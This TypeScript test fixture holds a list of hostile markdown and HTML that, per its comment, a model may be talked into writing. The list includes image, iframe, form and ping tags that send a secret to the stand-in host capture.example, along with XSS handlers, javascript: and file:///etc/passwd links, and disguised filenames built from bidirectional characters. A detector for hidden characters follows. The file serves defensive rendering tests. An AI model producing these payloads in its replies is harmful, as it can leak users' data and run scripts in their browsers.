const address = 'https://capture.example/?d=secret';

/** What a model may be talked into writing; none of it may load, run, style or submit anything. */
export const hostileText = `
![a](${address}) ![b][ref] [![c](${address})](${address})

[ref]: ${address}

<img src="${address}"> <img srcset="${address} 2x" onerror="alert(1)">
<video poster="${address}"><source src="${address}"></video>
<svg><image href="${address}" /></svg> <svg onload="alert(1)">
<div style="background:url(${address})">x</div>
<link rel="stylesheet" href="${address}"> <style>@import url(${address});</style>
<meta http-equiv="refresh" content="0;url=${address}">
<iframe src="${address}"></iframe> <object data="${address}"></object> <embed src="${address}">
<base href="${address}"> <form action="${address}"><input name="a"><button>go</button></form>
<a href="${address}" ping="${address}">ping</a> <script>alert(1)</script>

[js](javascript:alert(1)) [cmd](command:workbench.action.quit) [vs](vscode://x/y) [file](file:///etc/passwd)
[smb](smb://host/share) [data](data:text/html,<script>alert(1)</script>) [rel](../../x) <javascript:alert(1)>

Open photo\u202egpj.exe\u202c or \`pay\u2066evil\u2069\`, zero\u200bwidth &#x202e;entity

| ![t](${address}) | <img src=${address}> |
|---|---|
| a | b |

\`\`\`html
<img src="${address}"> \u202eright to left
\`\`\`

\`\`\`" onmouseover="alert(1)
x
`;

/**
 * Where the page holds characters that no reader sees or that turn text around: in texts, and in the attributes that are
 * shown or spoken. Runs in the page.
 */
export function hiddenOnPage(root: Element): string[] {
	const hidden = /[\u200b\u202a-\u202e\u2066-\u2069]/u;
	const places = new Set<string>();
	const texts = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
	for (let node = texts.nextNode(); node; node = texts.nextNode()) {
		if (hidden.test(node.textContent ?? '')) {
			places.add(`text of ${node.parentElement?.localName}.${node.parentElement?.className}`);
		}
	}
	for (const element of root.querySelectorAll('[title], [aria-label], [placeholder]')) {
		for (const name of ['title', 'aria-label', 'placeholder']) {
			if (hidden.test(element.getAttribute(name) ?? '')) {
				places.add(`${name} of ${element.localName}.${element.className}`);
			}
		}
	}
	return [...places];
}
